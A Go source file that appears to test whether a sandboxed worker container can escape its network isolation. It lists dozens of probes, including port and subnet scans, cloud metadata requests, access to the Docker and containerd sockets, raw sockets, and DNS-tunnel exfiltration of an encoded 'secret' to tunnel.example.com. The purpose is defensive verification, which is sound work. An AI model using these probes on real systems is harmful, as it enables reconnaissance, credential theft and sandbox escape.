package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// patience is how long an unanswered packet is waited for.
const patience = 700 * time.Millisecond

var networkWays = []way{
	{"TCP to every service of the host, on every address of it", hostTCP},
	{"UDP to every service of the host", hostUDP},
	{"the Manager's API behind the gateway's name", atGateway(8700)},
	{"the Manager's operations behind the gateway's name", atGateway(8701)},
	{"the gateway's admin port behind its name", atGateway(9901)},
	{"the homeserver behind the gateway's name", atGateway(8008)},
	{"the object store behind the gateway's name", atGateway(9000)},
	{"the database behind the gateway's name", atGateway(5432)},
	{"SSH behind the gateway's name", atGateway(22)},
	{"the engine's API behind the gateway's name", atGateway(2375)},
	{"any other port of the forwarder", scanForwarder},
	{"another Worker by TCP", func(w World) error {
		return anyOf(len(w.Others), func(i int) error { return dial("tcp", w.Others[i], listenPort) })
	}},
	{"another Worker by UDP", func(w World) error {
		return anyOf(len(w.Others), func(i int) error { return ask(net.JoinHostPort(w.Others[i], strconv.Itoa(listenPort))) })
	}},
	{"another Worker on the loopback by TCP", tcpTo("127.0.0.1", listenPort)},
	{"another Worker on the loopback by IPv6", tcpTo("::1", listenPort)},
	{"another Worker by name", resolveAny},
	{"every address near by", scanSubnet},
	{"cloud metadata, 169.254.169.254", tcpTo("169.254.169.254", 80)},
	{"cloud metadata, 169.254.170.2", tcpTo("169.254.170.2", 80)},
	{"cloud metadata, 100.100.100.200", tcpTo("100.100.100.200", 80)},
	{"cloud metadata by IPv6", tcpTo("fd00:ec2::254", 80)},
	{"cloud metadata by name", resolves("metadata.google.internal")},
	{"the internet by TCP", tcpTo("1.1.1.1", 443)},
	{"the internet by UDP", func(World) error { return ask("1.1.1.1:53") }},
	{"the internet by IPv6", tcpTo("2606:4700:4700::1111", 443)},
	{"a public name", resolves("example.com")},
	{"data in a name, through the resolver", resolves("c2VjcmV0.tunnel.example.com")},
	{"data in a TXT question, through the resolver", func(World) error {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		defer cancel()
		_, err := net.DefaultResolver.LookupTXT(ctx, "c2VjcmV0.tunnel.example.com")
		return err
	}},
	{"the engine's name for the host", resolves("host.docker.internal")},
	{"the forwarder's name for the host", resolves("host")},
	{"the host by IPv6 link-local multicast", linkLocal},
	{"the host by IPv6 link-local datagrams", linkLocalDatagram},
	{"the host by broadcast", broadcast},
	{"the host by multicast", func(World) error { return ask("224.0.0.1:53") }},
	{"any interface but the loopback", interfaces},
	{"any route but the loopback's", routes},
	{"the forwarder as a proxy to the host", proxied},
	{"a raw socket", socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
	{"a raw IPv6 socket", socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)},
	{"a packet socket", socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300)},
	{"a socket to the hypervisor", socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
	{"a tunnel device", tunnel},
	{"a kernel audit socket that writes", auditWrite},
	{"a new route", newRoute},
	{"a new address", newAddress},
	{"containerd's abstract socket", unixSocket("@/containerd-shim/moby/shim.sock")},
	{"any abstract socket", abstractSockets},
	{"the socket of the uplink", unixSocket("/uplink/gateway.sock")},
	{"the socket of the uplink through PID 1", unixSocket("/proc/1/root/uplink/gateway.sock")},
	{"the engine's socket", unixSocket("/var/run/docker.sock")},
	{"the engine's socket in /run", unixSocket("/run/docker.sock")},
	{"containerd's socket", unixSocket("/run/containerd/containerd.sock")},
}

// control checks the twin of all attempts: the one way that is open. Empty is
// good.
func control(w World) string {
	c := http.Client{Timeout: 10 * time.Second}
	res, err := c.Get(w.Gateway)
	if err != nil {
		return err.Error()
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<10))
	if err != nil || res.StatusCode != http.StatusOK {
		return fmt.Sprint(res.StatusCode, " ", string(b), " ", err)
	}
	return ""
}

func dial(network, host string, port int) error {
	c, err := net.DialTimeout(network, net.JoinHostPort(host, strconv.Itoa(port)), patience)
	if err != nil {
		return err
	}
	return c.Close()
}

func tcpTo(host string, port int) func(World) error {
	return func(World) error { return dial("tcp", host, port) }
}

// ask sends a DNS question by UDP; any answer will do.
func ask(addr string) error {
	c, err := net.DialTimeout("udp", addr, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	question := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06tunnel\x07example\x03com\x00\x00\x10\x00\x01"
	if _, err := io.WriteString(c, question); err != nil {
		return err
	}
	if err := c.SetReadDeadline(time.Now().Add(patience)); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 512))
	return err
}

// hostTCP tries all at once: each unanswered one takes all its patience.
func hostTCP(w World) error {
	return anyOf(len(w.Hosts)*len(w.Ports), func(i int) error {
		return dial("tcp", w.Hosts[i/len(w.Ports)], w.Ports[i%len(w.Ports)])
	})
}

func hostUDP(w World) error {
	return anyOf(len(w.Hosts), func(i int) error { return ask(net.JoinHostPort(w.Hosts[i], "53")) })
}

// anyOf runs n attempts, a few at a time, and is open when one is.
func anyOf(n int, try func(i int) error) error {
	slots, results := make(chan struct{}, 16), make(chan error, n)
	for i := range n {
		slots <- struct{}{}
		go func() {
			results <- try(i)
			<-slots
		}()
	}
	last := errors.New("nothing to try")
	for range n {
		if err := <-results; err != nil {
			last = err
		} else {
			return nil
		}
	}
	return last
}

func gatewayHost(w World) (host string, port int) {
	u, err := url.Parse(w.Gateway)
	if err != nil {
		return "", 0
	}
	port, _ = strconv.Atoi(u.Port())
	return u.Hostname(), port
}

func atGateway(port int) func(World) error {
	return func(w World) error {
		host, _ := gatewayHost(w)
		return dial("tcp", host, port)
	}
}

func scanForwarder(w World) error {
	host, open := gatewayHost(w)
	ips, err := net.LookupHost(host)
	if err != nil {
		return err
	}
	return anyOf(65535, func(i int) error {
		if i+1 == open {
			return errors.New("that is the gateway")
		}
		return dial("tcp", ips[0], i+1)
	})
}

// scanSubnet looks for anybody but the forwarder and itself.
func scanSubnet(w World) error {
	host, port := gatewayHost(w)
	known := map[string]bool{}
	if ips, err := net.LookupHost(host); err == nil {
		known[ips[0]] = true
	}
	ifs, err := net.InterfaceAddrs()
	if err != nil {
		return err
	}
	var near []string
	for _, a := range ifs {
		p, err := netip.ParsePrefix(a.String())
		if err != nil || p.Addr().IsLoopback() {
			continue
		}
		known[p.Addr().String()] = true
		first := p.Masked().Addr()
		for range 32 { // beyond its own 8 addresses, into its neighbours'
			if s := first.String(); !known[s] {
				near = append(near, s)
			}
			first = first.Next()
		}
	}
	ports := append([]int{listenPort, port}, w.Ports...)
	return anyOf(len(near)*len(ports), func(i int) error { return dial("tcp", near[i/len(ports)], ports[i%len(ports)]) })
}

func resolves(name string) func(World) error {
	return func(World) error { return resolve(name) }
}

func resolve(name string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	_, err := net.DefaultResolver.LookupHost(ctx, name)
	return err
}

func resolveAny(w World) error {
	return anyOf(len(w.Names), func(i int) error { return resolve(w.Names[i]) })
}

// eachInterface tries all interfaces, and is open when one is.
func eachInterface(try func(net.Interface) error) error {
	list, err := net.Interfaces()
	if err != nil {
		return err
	}
	return anyOf(len(list), func(i int) error { return try(list[i]) })
}

func linkLocal(w World) error {
	return eachInterface(func(i net.Interface) error {
		return anyOf(len(w.Ports), func(p int) error { return dial("tcp", "ff02::1%"+i.Name, w.Ports[p]) })
	})
}

func linkLocalDatagram(World) error {
	return eachInterface(func(i net.Interface) error { return ask("[ff02::1%" + i.Name + "]:53") })
}

// broadcast sends to everybody. What arrives need not be answered to have carried
// something out, so being let to send is enough.
func broadcast(World) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1); err != nil {
		return err
	}
	return unix.Sendto(fd, []byte("probe"), 0, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{255, 255, 255, 255}})
}

func interfaces(World) error {
	return eachInterface(func(i net.Interface) error {
		if i.Flags&net.FlagLoopback != 0 {
			return errors.New("there is only " + i.Name)
		}
		return nil
	})
}

func routes(World) error {
	b, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return err
	}
	for i, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if i > 0 && !strings.HasPrefix(line, "lo") { // the first is the head
			return nil
		}
	}
	return errors.New("there is none")
}

// proxied asks the forwarder to connect to somebody else, as HTTP proxies do.
func proxied(w World) error {
	host, port := gatewayHost(w)
	c, err := net.DialTimeout("tcp", net.JoinHostPort(host, strconv.Itoa(port)), patience)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * patience))
	fmt.Fprintf(c, "CONNECT %s:8700 HTTP/1.1\r\nHost: x\r\n\r\n", w.Hosts[0])
	line := make([]byte, 12)
	if _, err := io.ReadFull(c, line); err != nil {
		return err
	}
	if string(line[9:]) != "200" {
		return fmt.Errorf("answer %q", line)
	}
	return nil
}
